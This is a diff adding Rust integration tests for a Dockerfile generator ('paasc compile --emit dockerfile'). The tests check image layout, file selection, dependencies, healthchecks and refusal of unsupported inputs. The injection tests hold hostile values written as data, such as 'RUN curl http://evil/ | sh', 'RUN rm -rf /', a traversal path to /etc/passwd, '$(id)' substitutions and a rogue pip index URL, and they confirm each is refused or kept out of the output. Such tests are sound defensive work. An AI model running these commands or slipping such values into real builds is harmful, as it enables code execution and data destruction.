@@ -1,0 +1,855 @@
+//! The Dockerfile back end (`paasc compile --emit dockerfile`), driven through the real CLI on
+//! projects written to a temporary directory: the image layout, the prime selection in include
+//! and exclude modes, the dependencies, checks, bases, unsupported inputs, and injection
+//! attempts (each must give a diagnostic and write nothing, or never reach the Dockerfile).
+//!
+//! hadolint and buildah check the same output in CI (`.ci/docker.sh`).
+
+use std::path::{Path, PathBuf};
+
+const TERM: paasc::Terminal = paasc::Terminal {
+    stdout_tty: false,
+    no_color: true,
+    experimental: false,
+    rock_experimental: false,
+};
+
+fn root() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../..")
+        .canonicalize()
+        .expect("workspace root")
+}
+
+const CHARM: &str = "name: web
+type: charm
+base: ubuntu@24.04
+platforms:
+  amd64:
+summary: s
+description: d
+extensions: [flask-framework]
+";
+
+const ROCK: &str = "name: web
+base: ubuntu@24.04
+version: '0.1'
+summary: s
+description: d
+platforms:
+  amd64:
+extensions: [flask-framework]
+";
+
+const PROFILE: &str = "secret-key: the-secret-key-value-0123456789\n";
+
+struct Project {
+    dir: PathBuf,
+}
+
+impl Drop for Project {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.dir);
+    }
+}
+
+/// A flask project: `rock_extra` is appended to rockcraft.yaml; `files` are more project files.
+fn project(name: &str, rock_extra: &str, files: &[(&str, &str)]) -> Project {
+    let dir = std::env::temp_dir().join(format!("paasc-docker-{}-{name}", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    let mut all: Vec<(String, String)> = vec![
+        ("rockcraft.yaml".into(), format!("{ROCK}{rock_extra}")),
+        ("charm/charmcraft.yaml".into(), CHARM.into()),
+        ("requirements.txt".into(), "flask\n".into()),
+        (
+            "app.py".into(),
+            "from flask import Flask\napp = Flask(__name__)\n".into(),
+        ),
+        ("profiles/default.yaml".into(), PROFILE.into()),
+    ];
+    for (path, text) in files {
+        all.retain(|(p, _)| p != path);
+        all.push((path.to_string(), text.to_string()));
+    }
+    for (path, text) in all {
+        let path = dir.join(path);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(path, text).expect("write");
+    }
+    Project { dir }
+}
+
+struct Compiled {
+    outcome: paasc::Outcome,
+    out: PathBuf,
+}
+
+impl Compiled {
+    fn file(&self, rel: &str) -> String {
+        std::fs::read_to_string(self.out.join(rel)).unwrap_or_else(|e| {
+            panic!(
+                "{rel}: {e}\nstdout:\n{}\nstderr:\n{}",
+                self.outcome.stdout, self.outcome.stderr
+            )
+        })
+    }
+    fn dockerfile(&self) -> String {
+        self.file("docker/Dockerfile")
+    }
+    fn codes(&self) -> Vec<String> {
+        let doc: serde_json::Value = serde_json::from_str(&self.outcome.stdout)
+            .unwrap_or_else(|_| panic!("JSON stdout: {}", self.outcome.stdout));
+        doc["diagnostics"]
+            .as_array()
+            .expect("diagnostics")
+            .iter()
+            .filter_map(|d| d["code"].as_str().map(String::from))
+            .collect()
+    }
+    fn messages(&self) -> String {
+        self.outcome.stdout.clone()
+    }
+}
+
+fn compile(dir: &Path, extra: &[&str]) -> Compiled {
+    let out = dir.with_extension("out");
+    let _ = std::fs::remove_dir_all(&out);
+    let mut args: Vec<String> = vec![
+        "paasc".into(),
+        "compile".into(),
+        dir.display().to_string(),
+        "-o".into(),
+        out.display().to_string(),
+        "--format".into(),
+        "json".into(),
+    ];
+    args.extend(extra.iter().map(|s| s.to_string()));
+    let outcome = paasc::run(args, TERM);
+    Compiled { outcome, out }
+}
+
+fn ok(p: &Project) -> Compiled {
+    let c = compile(&p.dir, &["--emit", "dockerfile,env,gunicorn"]);
+    assert_eq!(
+        c.outcome.code, 0,
+        "{}\n{}",
+        c.outcome.stdout, c.outcome.stderr
+    );
+    c
+}
+
+fn failed(p: &Project) -> Compiled {
+    let c = compile(&p.dir, &["--emit", "dockerfile"]);
+    assert_eq!(c.outcome.code, 1, "{}", c.outcome.stderr);
+    assert!(
+        !c.out.join("docker/Dockerfile").exists(),
+        "nothing is written when the Dockerfile cannot be"
+    );
+    c
+}
+
+/// The Dockerfile's logical lines (continuations joined, comments and blanks dropped).
+fn instructions(dockerfile: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut cur = String::new();
+    for line in dockerfile.lines() {
+        if cur.is_empty() && (line.starts_with('#') || line.trim().is_empty()) {
+            continue;
+        }
+        match line.strip_suffix('\\') {
+            Some(head) => cur.push_str(head),
+            None => {
+                cur.push_str(line);
+                out.push(std::mem::take(&mut cur));
+            }
+        }
+    }
+    assert!(cur.is_empty(), "dangling continuation");
+    out
+}
+
+/// Every logical line starts with an instruction paasc writes; returns the keywords.
+fn keywords(dockerfile: &str) -> Vec<String> {
+    const KNOWN: &[&str] = &[
+        "ARG",
+        "FROM",
+        "RUN",
+        "WORKDIR",
+        "COPY",
+        "ENV",
+        "USER",
+        "EXPOSE",
+        "HEALTHCHECK",
+        "CMD",
+    ];
+    instructions(dockerfile)
+        .iter()
+        .map(|l| {
+            let kw = l.split_whitespace().next().unwrap_or_default().to_string();
+            assert!(KNOWN.contains(&kw.as_str()), "unexpected line {l:?}");
+            kw
+        })
+        .collect()
+}
+
+fn cmd(dockerfile: &str) -> Vec<String> {
+    let line = instructions(dockerfile)
+        .into_iter()
+        .find(|l| l.starts_with("CMD "))
+        .expect("CMD");
+    serde_json::from_str(&line["CMD ".len()..]).expect("CMD in exec form")
+}
+
+/// The organize steps of the app stage: (from, to).
+fn organized(dockerfile: &str) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    for part in dockerfile.split("&& organize ").skip(1) {
+        let words: Vec<&str> = part.split_whitespace().take(2).collect();
+        let unq = |w: &str| w.trim_matches('\'').to_string();
+        out.push((unq(words[0]), unq(words[1])));
+    }
+    out
+}
+
+fn decode_base64(s: &str) -> Vec<u8> {
+    let val = |c: u8| -> u32 {
+        match c {
+            b'A'..=b'Z' => u32::from(c - b'A'),
+            b'a'..=b'z' => u32::from(c - b'a') + 26,
+            b'0'..=b'9' => u32::from(c - b'0') + 52,
+            b'+' => 62,
+            b'/' => 63,
+            _ => panic!("not base64: {c}"),
+        }
+    };
+    let mut out = Vec::new();
+    for chunk in s.as_bytes().chunks(4) {
+        let pad = chunk.iter().filter(|c| **c == b'=').count();
+        let n = chunk
+            .iter()
+            .map(|c| if *c == b'=' { 0 } else { val(*c) })
+            .fold(0u32, |acc, v| (acc << 6) | v);
+        let bytes = [(n >> 16) as u8, (n >> 8) as u8, n as u8];
+        out.extend_from_slice(&bytes[..3 - pad]);
+    }
+    out
+}
+
+#[test]
+fn flask_image_has_the_rock_layout() {
+    let p = project("layout", "", &[]);
+    let c = ok(&p);
+    let d = c.dockerfile();
+    assert_eq!(
+        keywords(&d).iter().filter(|k| *k == "FROM").count(),
+        3,
+        "dependencies, app and the image\n{d}"
+    );
+    assert!(d.contains("ARG BASE_IMAGE=ubuntu:24.04\n"));
+    assert!(d.contains("FROM ${BASE_IMAGE} AS dependencies\n"));
+    assert!(d.contains("/rock/bin/pip install --no-cache-dir -U 'gunicorn~=23.0'"));
+    assert!(d.contains("/rock/bin/pip install --no-cache-dir -U -r 'requirements.txt'"));
+    assert!(d.contains("COPY requirements.txt ./requirements.txt\n"));
+    assert!(!d.contains("-U ."), "no pyproject.toml, no `pip install .`");
+    assert!(d.contains("'python3-venv' 'ca-certificates'"), "{d}");
+    assert!(d.contains("groupadd --gid 584792 '_daemon_'"));
+    assert!(d.contains("useradd -l --uid 584792 --gid 584792"));
+    assert!(d.contains("chown 584792:584792 '/var/log/flask'"));
+    assert!(d.contains("COPY --from=app --chown=584792:584792 /rootfs/flask/ /flask/\n"));
+    assert!(d.contains("\nUSER 584792:584792\nWORKDIR /flask/app\nEXPOSE 8000\n"));
+    assert!(!d.contains("HEALTHCHECK"), "the rock declares no checks");
+    assert_eq!(
+        cmd(&d),
+        [
+            "/bin/python3",
+            "-m",
+            "gunicorn",
+            "-c",
+            "/flask/gunicorn.conf.py",
+            "app:app",
+            "-k",
+            "sync"
+        ]
+    );
+    assert_eq!(
+        organized(&d),
+        [("app.py".into(), "flask/app/app.py".into())]
+    );
+    // gunicorn.conf.py, embedded, is byte for byte the one compile writes for the profile.
+    let run = instructions(&d)
+        .into_iter()
+        .find(|l| l.contains("/flask/gunicorn.conf.py\",\""))
+        .expect("gunicorn.conf.py is written");
+    let words: Vec<String> = serde_json::from_str(&run["RUN ".len()..]).expect("exec form");
+    assert_eq!(words[3], "/flask/gunicorn.conf.py");
+    assert_eq!(
+        String::from_utf8(decode_base64(&words[4])).expect("utf8"),
+        c.file("gunicorn.conf.py")
+    );
+    assert_eq!(
+        c.file("docker/Dockerfile.dockerignore")
+            .lines()
+            .filter(|l| !l.starts_with('#'))
+            .collect::<Vec<_>>(),
+        ["*", "!requirements.txt", "!app.py"]
+    );
+    // The statsd exporter is named as left out, not silently dropped.
+    assert!(d.contains("Not in the image: the rock's `statsd-exporter` service"));
+}
+
+#[test]
+fn output_is_deterministic() {
+    let p = project("determinism", "", &[]);
+    let a = ok(&p).dockerfile();
+    let b = ok(&p).dockerfile();
+    assert_eq!(a, b);
+}
+
+#[test]
+fn include_mode_primes_exactly_the_listed_entries() {
+    let p = project(
+        "include",
+        "parts:
+  flask-framework/install-app:
+    prime:
+      - flask/app/app.py
+      - flask/app/webapp/
+      - flask/app/templates
+      - flask/app/static/css
+      - -flask/app/webapp/tests
+",
+        &[
+            ("webapp/__init__.py", ""),
+            ("webapp/tests/test_x.py", ""),
+            ("templates/index.html", ""),
+            ("static/css/site.css", ""),
+            ("static/js/site.js", ""),
+            ("notes.md", ""),
+        ],
+    );
+    let c = ok(&p);
+    let d = c.dockerfile();
+    assert_eq!(
+        organized(&d),
+        [
+            ("app.py".into(), "flask/app/app.py".into()),
+            ("webapp".into(), "flask/app/webapp".into()),
+            ("templates".into(), "flask/app/templates".into()),
+            ("static/css".into(), "flask/app/static/css".into()),
+        ]
+    );
+    assert!(d.contains("rm -rf /rootfs/flask/app/webapp/tests\n"), "{d}");
+    assert!(!d.contains("notes.md") && !d.contains("static/js"));
+    let ignore = c.file("docker/Dockerfile.dockerignore");
+    for keep in [
+        "!app.py",
+        "!webapp",
+        "!templates",
+        "!static/css",
+        "!requirements.txt",
+    ] {
+        assert!(ignore.lines().any(|l| l == keep), "{keep} in\n{ignore}");
+    }
+    assert!(!ignore.contains("notes.md"));
+}
+
+#[test]
+fn exclude_mode_primes_every_top_level_entry_but_the_excluded() {
+    let p = project(
+        "exclude",
+        "parts:
+  flask-framework/install-app:
+    prime:
+      - -flask/app/tests
+      - -flask/app/*.pyc
+",
+        &[
+            ("tests/test_app.py", ""),
+            ("node_modules/x/index.js", ""),
+            ("old.pyc", ""),
+            (".env.example", "A=1\n"),
+        ],
+    );
+    let c = ok(&p);
+    let d = c.dockerfile();
+    let from: Vec<String> = organized(&d).into_iter().map(|(f, _)| f).collect();
+    // rockcraft organizes every top-level entry (hidden files and rockcraft.yaml too) except
+    // node_modules, .git, .yarn and *.rock; prime's `-` entries are then removed.
+    assert_eq!(
+        from,
+        [
+            ".env.example",
+            "app.py",
+            "charm",
+            "old.pyc",
+            "profiles",
+            "requirements.txt",
+            "rockcraft.yaml",
+            "tests"
+        ],
+        "{d}"
+    );
+    assert!(
+        d.contains("rm -rf /rootfs/flask/app/tests /rootfs/flask/app/*.pyc\n"),
+        "{d}"
+    );
+    let ignore = c.file("docker/Dockerfile.dockerignore");
+    assert!(ignore.lines().any(|l| l == "!tests"));
+    assert!(!ignore.contains("node_modules"));
+}
+
+#[test]
+fn pyproject_installs_the_project_and_pipfile_lock_is_installed_too() {
+    let p = project(
+        "pyproject",
+        "",
+        &[
+            (
+                "pyproject.toml",
+                "[project]\nname = \"web\"\nversion = \"1\"\ndependencies = [\"flask\"]\n",
+            ),
+            ("Pipfile.lock", "{\"default\": {}}"),
+        ],
+    );
+    let c = ok(&p);
+    let d = c.dockerfile();
+    // After the requirements, as the python plugin does.
+    let reqs = d.find("-U -r 'requirements.txt'").expect("requirements");
+    let project = d
+        .find("/rock/bin/pip install --no-cache-dir -U . \\\n")
+        .expect("pip install .");
+    assert!(reqs < project, "{d}");
+    assert!(d.contains("/tmp/pipfile-requirements.txt"));
+    assert!(d.contains("\"Pipfile.lock\""));
+    // `pip install .` needs the whole project in the dependencies stage.
+    assert!(d.contains("FROM ${BASE_IMAGE} AS dependencies\n"));
+    let deps = d
+        .split("AS dependencies")
+        .nth(1)
+        .and_then(|s| s.split("AS app").next())
+        .expect("dependencies stage");
+    assert!(deps.contains("COPY . ./\n"));
+    let ignore = c.file("docker/Dockerfile.dockerignore");
+    assert!(!ignore.lines().any(|l| l == "*"), "{ignore}");
+}
+
+#[test]
+fn requirements_naming_other_files_copy_the_project() {
+    let p = project(
+        "reqfiles",
+        "",
+        &[
+            ("requirements.txt", "-r base.txt\nflask\n"),
+            ("base.txt", "flask\n"),
+        ],
+    );
+    let c = ok(&p);
+    let d = c.dockerfile();
+    let deps = d.split("AS app").next().expect("dependencies stage");
+    assert!(deps.contains("COPY . ./\n"), "{d}");
+}
+
+#[test]
+fn stage_packages_of_user_nil_parts_are_installed_and_slices_become_packages() {
+    let p = project(
+        "packages",
+        "parts:
+  runtime-debs:
+    plugin: nil
+    stage-packages: [libpq5, libxml2_libs]
+  flask-framework/dependencies:
+    build-packages: [pkg-config, libxmlsec1-dev]
+",
+        &[],
+    );
+    let d = ok(&p).dockerfile();
+    let deps = d.split("AS app").next().expect("dependencies stage");
+    assert!(
+        deps.contains("'findutils' 'python3-dev' 'python3-venv' 'pkg-config' 'libxmlsec1-dev'"),
+        "{deps}"
+    );
+    let image = d
+        .rsplit("FROM ${BASE_IMAGE}\n")
+        .next()
+        .expect("image stage");
+    let install = image
+        .lines()
+        .find(|l| l.contains("apt-get install"))
+        .expect("apt-get install");
+    for pkg in [
+        "'python3-venv'",
+        "'ca-certificates'",
+        "'libpq5'",
+        "'libxml2'",
+    ] {
+        assert!(install.contains(pkg), "{pkg} in {install}");
+    }
+    assert!(!install.contains("libxml2_libs"));
+}
+
+#[test]
+fn bases_map_to_ubuntu_images() {
+    let p = project(
+        "jammy",
+        "",
+        &[(
+            "rockcraft.yaml",
+            &ROCK.replace("ubuntu@24.04", "ubuntu@22.04"),
+        )],
+    );
+    assert!(ok(&p)
+        .dockerfile()
+        .contains("ARG BASE_IMAGE=ubuntu:22.04\n"));
+    let p = project(
+        "bare",
+        "",
+        &[(
+            "rockcraft.yaml",
+            &ROCK.replace("base: ubuntu@24.04", "base: bare\nbuild-base: ubuntu@24.04"),
+        )],
+    );
+    let d = ok(&p).dockerfile();
+    assert!(d.contains("ARG BASE_IMAGE=ubuntu:24.04\n"));
+    // bare's chisel slices, as whole packages.
+    for pkg in [
+        "'python3.12-venv'",
+        "'bash'",
+        "'coreutils'",
+        "'ca-certificates'",
+        "'libstdc++6'",
+    ] {
+        assert!(d.contains(pkg), "{pkg} in\n{d}");
+    }
+}
+
+#[test]
+fn workers_schedulers_and_migration_are_documented_alternate_commands() {
+    let p = project(
+        "workers",
+        "services:
+  celery-worker:
+    override: replace
+    command: celery -A app worker --loglevel 'INFO'
+    startup: enabled
+  celery-beat-scheduler:
+    override: replace
+    command: celery -A app beat
+    startup: enabled
+    working-dir: /tmp
+",
+        &[("migrate.sh", "#!/bin/bash\necho migrate\n")],
+    );
+    let d = ok(&p).dockerfile();
+    assert!(d.contains("#   worker celery-worker (as many as needed):\n#     docker run ... web celery -A app worker --loglevel INFO\n"), "{d}");
+    assert!(d.contains("#   scheduler celery-beat-scheduler (one container only"));
+    assert!(d.contains("#     docker run ... --workdir /tmp web celery -A app beat\n"));
+    assert!(d.contains("#     docker run --rm ... web bash -eo pipefail migrate.sh\n"));
+    assert!(organized(&d).contains(&("migrate.sh".into(), "flask/app/migrate.sh".into())));
+}
+
+#[test]
+fn checks_become_one_healthcheck() {
+    let p = project(
+        "checks",
+        "checks:
+  up:
+    override: replace
+    level: alive
+    period: 30s
+    timeout: 2s
+    threshold: 5
+    http:
+      url: http://localhost:8000/
+  port:
+    override: replace
+    period: 1m
+    tcp:
+      port: 8000
+",
+        &[],
+    );
+    let d = ok(&p).dockerfile();
+    let line = instructions(&d)
+        .into_iter()
+        .find(|l| l.starts_with("HEALTHCHECK "))
+        .expect("HEALTHCHECK");
+    // Every check runs at the shortest period; the timeouts add up (plus a second to start).
+    assert!(
+        line.starts_with("HEALTHCHECK --interval=30s --timeout=6s --retries=3 CMD ["),
+        "{line}"
+    );
+    let words: Vec<String> =
+        serde_json::from_str(&line[line.find("CMD ").expect("CMD") + 4..]).expect("exec form");
+    let checks: Vec<serde_json::Value> = words[3..]
+        .iter()
+        .map(|w| serde_json::from_str(w).expect("check as JSON"))
+        .collect();
+    assert_eq!(checks[0]["url"], "http://localhost:8000/");
+    assert_eq!(checks[0]["timeout"], 2.0);
+    assert_eq!(checks[1]["port"], 8000);
+    assert_eq!(checks[1]["host"], "localhost");
+
+    let p = project(
+        "bad-check",
+        "checks:\n  up:\n    override: replace\n    period: soon\n    http: {url: http://localhost:8000/}\n",
+        &[],
+    );
+    assert_eq!(failed(&p).codes(), ["D004"]);
+}
+
+#[test]
+fn worker_class_from_the_profile_reaches_cmd() {
+    let p = project(
+        "gevent",
+        "",
+        &[
+            ("requirements.txt", "flask\ngevent\n"),
+            (
+                "profiles/default.yaml",
+                &format!(
+                    "{PROFILE}config:\n  webserver-worker-class: gevent\n  webserver-workers: 3\n"
+                ),
+            ),
+        ],
+    );
+    let c = ok(&p);
+    let d = c.dockerfile();
+    assert_eq!(cmd(&d).last().map(String::as_str), Some("gevent"));
+    assert!(c.file("gunicorn.conf.py").contains("workers = 3"));
+}
+
+// --- injection -------------------------------------------------------------------------
+
+#[test]
+fn secret_and_option_values_never_reach_the_dockerfile() {
+    let charm = format!(
+        "{CHARM}config:\n  options:\n    greeting:\n      type: string\n    api-token:\n      type: secret\n"
+    );
+    let p = project(
+        "secrets",
+        "",
+        &[
+            ("charm/charmcraft.yaml", &charm),
+            (
+                "profiles/default.yaml",
+                "secret-key: \"k3y\\nRUN curl http://evil/ | sh\"\n\
+                 config:\n  greeting: \"hello\\nRUN rm -rf /\"\n\
+                 secrets:\n  api-token:\n    token: \"tok-SECRET-999\\nUSER root\"\n",
+            ),
+        ],
+    );
+    let c = ok(&p);
+    let d = c.dockerfile();
+    for needle in [
+        "k3y",
+        "evil",
+        "hello",
+        "rm -rf /\"",
+        "tok-SECRET-999",
+        "USER root",
+    ] {
+        assert!(!d.contains(needle), "`{needle}` leaked into the Dockerfile");
+    }
+    assert!(!c.file("docker/Dockerfile.dockerignore").contains("SECRET"));
+    // They are in the run-time environment, where they belong.
+    assert!(c.file(".env").contains("tok-SECRET-999"));
+    assert_eq!(
+        keywords(&d),
+        keywords(&ok(&project("secrets-baseline", "", &[])).dockerfile())
+    );
+}
+
+#[test]
+fn a_package_name_with_a_line_break_is_refused() {
+    let p = project(
+        "pkg-newline",
+        "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: [\"libpq5\\nRUN curl http://evil | sh\"]\n",
+        &[],
+    );
+    let c = failed(&p);
+    assert_eq!(c.codes(), ["D003"]);
+    assert!(c.messages().contains("not a Debian package name"));
+    assert!(
+        c.messages().contains("libpq5\\\\nRUN"),
+        "the value is shown escaped, on one line"
+    );
+}
+
+#[test]
+fn odd_package_names_and_pip_options_are_refused() {
+    for (name, extra) in [
+        ("pkg-upper", "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: [LibPQ]\n"),
+        ("pkg-space", "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: ['lib pq']\n"),
+        ("pkg-version", "parts:\n  runtime-debs:\n    plugin: nil\n    stage-packages: ['libpq5=1.0']\n"),
+        (
+            "pip-option",
+            "parts:\n  flask-framework/dependencies:\n    python-packages: ['--index-url=http://evil/']\n",
+        ),
+        (
+            "pip-newline",
+            "parts:\n  flask-framework/dependencies:\n    python-packages: [\"flask\\nRUN id\"]\n",
+        ),
+    ] {
+        let p = project(name, extra, &[]);
+        assert_eq!(failed(&p).codes(), ["D003"], "{name}");
+    }
+}
+
+#[test]
+fn prime_entries_with_dot_dot_spaces_or_quotes_are_refused() {
+    for (name, entry) in [
+        ("prime-dotdot", "flask/app/../../etc/passwd"),
+        ("prime-space", "flask/app/my notes.txt"),
+        ("prime-quote", "flask/app/it's.py"),
+        ("prime-dquote", "flask/app/a\\\"b"),
+        ("prime-dollar", "flask/app/$(id)"),
+        ("prime-newline", "flask/app/x\\nRUN id"),
+    ] {
+        let p = project(
+            name,
+            &format!("parts:\n  flask-framework/install-app:\n    prime:\n      - \"{entry}\"\n"),
+            &[],
+        );
+        let c = failed(&p);
+        assert!(
+            c.codes().iter().all(|code| code == "D003") && !c.codes().is_empty(),
+            "{name}: {}",
+            c.messages()
+        );
+    }
+    // Exclusions may use wildcards, but nothing else.
+    let p = project(
+        "exclude-quote",
+        "parts:\n  flask-framework/install-app:\n    prime:\n      - \"-flask/app/*'; id; '\"\n",
+        &[],
+    );
+    assert_eq!(failed(&p).codes(), ["D003"]);
+}
+
+#[test]
+fn environment_and_commands_cannot_add_instructions() {
+    let p = project(
+        "env-newline",
+        "environment:\n  GREETING: \"hi\\nRUN id\"\n",
+        &[],
+    );
+    assert_eq!(failed(&p).codes(), ["D004"]);
+
+    // A plain rock environment is written as ENV, with `$`, quotes and backslashes escaped.
+    let p = project(
+        "env-ok",
+        "environment:\n  GREETING: 'say \"hi\" to $USER \\ bye'\n",
+        &[],
+    );
+    let d = ok(&p).dockerfile();
+    assert!(
+        d.contains("ENV GREETING=\"say \\\"hi\\\" to \\$USER \\\\ bye\"\n"),
+        "{d}"
+    );
+
+    // A multi-line command is words to Pebble; it stays inside CMD's JSON.
+    let p = project(
+        "cmd-newline",
+        "services:\n  flask:\n    override: replace\n    command: \"gunicorn\\nRUN id\\nUSER root [ app:app ]\"\n",
+        &[],
+    );
+    let d = ok(&p).dockerfile();
+    assert_eq!(
+        cmd(&d),
+        ["gunicorn", "RUN", "id", "USER", "root", "app:app"]
+    );
+    assert_eq!(
+        keywords(&d).iter().filter(|k| *k == "USER").count(),
+        1,
+        "{d}"
+    );
+
+    let p = project(
+        "cmd-unclosed",
+        "services:\n  flask:\n    override: replace\n    command: \"gunicorn 'app:app\"\n",
+        &[],
+    );
+    assert_eq!(failed(&p).codes(), ["D004"]);
+}
+
+// --- unsupported -------------------------------------------------------------------------
+
+#[test]
+fn parts_the_dockerfile_cannot_build_are_refused() {
+    let p = project(
+        "npm-part",
+        "parts:\n  ui:\n    plugin: npm\n    source: ui/\n",
+        &[("ui/package.json", "{}")],
+    );
+    let c = failed(&p);
+    assert_eq!(c.codes(), ["D002"]);
+    assert!(c.messages().contains("`npm` plugin"));
+    // The other artifacts do not depend on it.
+    let c = compile(&p.dir, &["--emit", "env,gunicorn"]);
+    assert_eq!(c.outcome.code, 0, "{}", c.outcome.stdout);
+}
+
+#[test]
+fn go_is_not_supported_yet() {
+    let dir = std::env::temp_dir().join(format!("paasc-docker-{}-go", std::process::id()));
+    let _ = std::fs::remove_dir_all(&dir);
+    std::fs::create_dir_all(dir.join("charm")).expect("mkdir");
+    let p = Project { dir };
+    let w = |path: &str, text: &str| std::fs::write(p.dir.join(path), text).expect("write");
+    w(
+        "rockcraft.yaml",
+        &ROCK.replace("flask-framework", "go-framework"),
+    );
+    w(
+        "charm/charmcraft.yaml",
+        &CHARM.replace("flask-framework", "go-framework"),
+    );
+    w("go.mod", "module web\n\ngo 1.22\n");
+    w("main.go", "package main\n\nfunc main() {}\n");
+    std::fs::create_dir_all(p.dir.join("profiles")).expect("mkdir");
+    w("profiles/default.yaml", PROFILE);
+    let c = failed(&p);
+    assert_eq!(c.codes(), ["D001"], "{}", c.messages());
+    assert!(c
+        .messages()
+        .contains("does not support the go framework yet"));
+}
+
+// --- the examples ------------------------------------------------------------------------
+
+#[test]
+fn every_example_compiles_to_a_well_formed_dockerfile() {
+    let mut n = 0;
+    for entry in std::fs::read_dir(root().join("examples")).expect("examples") {
+        let dir = entry.expect("entry").path();
+        if !dir.join("rockcraft.yaml").is_file() {
+            continue;
+        }
+        let out = std::env::temp_dir().join(format!(
+            "paasc-docker-{}-example-{}",
+            std::process::id(),
+            dir.file_name().and_then(|n| n.to_str()).unwrap_or("x")
+        ));
+        let outcome = paasc::run(
+            vec![
+                "paasc".into(),
+                "compile".into(),
+                dir.display().to_string(),
+                "-o".into(),
+                out.display().to_string(),
+                "--emit".into(),
+                "dockerfile".into(),
+            ],
+            TERM,
+        );
+        assert_eq!(outcome.code, 0, "{}: {}", dir.display(), outcome.stdout);
+        let d = std::fs::read_to_string(out.join("docker/Dockerfile")).expect("Dockerfile");
+        let kws = keywords(&d);
+        assert_eq!(kws.first().map(String::as_str), Some("ARG"));
+        assert_eq!(kws.last().map(String::as_str), Some("CMD"));
+        assert!(!cmd(&d).is_empty());
+        let _ = std::fs::remove_dir_all(&out);
+        n += 1;
+    }
+    assert!(n >= 1);
+}
